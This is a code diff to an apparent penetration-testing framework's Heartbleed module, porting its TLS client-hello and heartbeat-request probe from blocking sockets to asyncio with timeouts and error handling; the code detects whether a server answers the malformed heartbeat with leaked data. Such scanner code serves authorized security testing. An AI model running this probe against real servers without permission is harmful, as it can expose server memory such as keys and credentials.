@@ -12,10 +12,12 @@ from pinaht.knowledge.types.protocol import Protocol
 from pinaht.knowledge.types.target import Target
 from pinaht.modules.module import Module
 from pinaht.knowledge.precondition_factory.metapreconditions import merge, is_parent
+import asyncio
 import struct
-import socket
 import codecs
 
+TIMEOUT = 10
+
 
 class HeartbleedModule(Module):
     # TODO knowledge types for heartbled ram
@@ -58,63 +60,76 @@ class HeartbleedModule(Module):
 
     def execute(
         self, buffered_module_manager: BufferedModuleManager, meta_key: str, keyed_knowledge: Dict[str, Knowledge]
+    ):
+        """ """
+        asyncio.run(self.execute_async(buffered_module_manager, meta_key, keyed_knowledge))
+
+    async def execute_async(
+        self, buffered_module_manager: BufferedModuleManager, meta_key: str, keyed_knowledge: Dict[str, Knowledge]
     ):
         """ """
         if meta_key == "heartbleed_meta":
-            self.execute_heartbleed(buffered_module_manager, **keyed_knowledge)
+            await self.execute_heartbleed(buffered_module_manager, **keyed_knowledge)
 
-    def execute_heartbleed(
+    async def execute_heartbleed(
         self, buffered_module_manager: BufferedModuleManager, target, ip, service, port, protocol, protocol_name
     ):
 
         self._logger.info(str(port))
-        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        s.settimeout(10)
-        s.connect((str(ip), port))
-
-        s.send(self.to_binary(client_hello))
-
-        while True:
-            msg_type, message = self.receive_message(s)
-            if not msg_type or not msg_type == 22:
-                return
-            if message[0] == 0x0E:
-                break
-
-        s.send(self.to_binary(heartbeat_request))
-
-        message_type, payload = self.receive_message(s)
-        if message_type is None:
-            # TODO no answer from server
-            pass
-        if message_type == 24:
-            if len(payload) > 3:
-                # TODO server is vulnerable
+        try:
+            reader, writer = await asyncio.wait_for(asyncio.open_connection(str(ip), port), TIMEOUT)
+        except (asyncio.TimeoutError, OSError) as e:
+            self._logger.info(f"cannot connect to {ip!s}:{port!s} ({e!r}), the target is not vulnerable")
+            return
+
+        try:
+            writer.write(self.to_binary(client_hello))
+            await writer.drain()
+
+            while True:
+                msg_type, message = await self.receive_message(reader)
+                if not msg_type or not msg_type == 22:
+                    return
+                if message[0] == 0x0E:
+                    break
+
+            writer.write(self.to_binary(heartbeat_request))
+            await writer.drain()
+
+            message_type, payload = await self.receive_message(reader)
+            if message_type is None:
+                # TODO no answer from server
                 pass
-            else:
-                # TODO server replied, but is not vulnerable
+            if message_type == 24:
+                if len(payload) > 3:
+                    # TODO server is vulnerable
+                    pass
+                else:
+                    # TODO server replied, but is not vulnerable
+                    pass
+            if message_type == 21:
+                # TODO server replied with alert code
                 pass
-        if message_type == 21:
-            # TODO server replied with alert code
-            pass
-        s.close()
+        except (asyncio.TimeoutError, OSError) as e:
+            self._logger.info(f"{ip!s}:{port!s} did not finish the handshake ({e!r}), the target is not vulnerable")
+        finally:
+            writer.close()
 
     @staticmethod
     def to_binary(x):
         return hex_decoder(x.replace(" ", "").replace("\n", ""))[0]
 
     @staticmethod
-    def receive_message(s):
-        tls_header = s.recv(5)
-        if not tls_header:
+    async def receive_message(reader: asyncio.StreamReader):
+        try:
+            tls_header = await asyncio.wait_for(reader.readexactly(5), TIMEOUT)
+        except asyncio.IncompleteReadError:
             return None, None
         message_type, tls_version, length = struct.unpack(">BHH", tls_header)
-        message = bytes()
-        while len(message) < length:
-            msg_piece = s.recv(length - len(message))
-            if not msg_piece:
-                break
-            message += msg_piece
+        try:
+            message = await asyncio.wait_for(reader.readexactly(length), TIMEOUT)
+        except asyncio.IncompleteReadError as e:
+            message = e.partial
         if not message:
             return None, None
         return message_type, message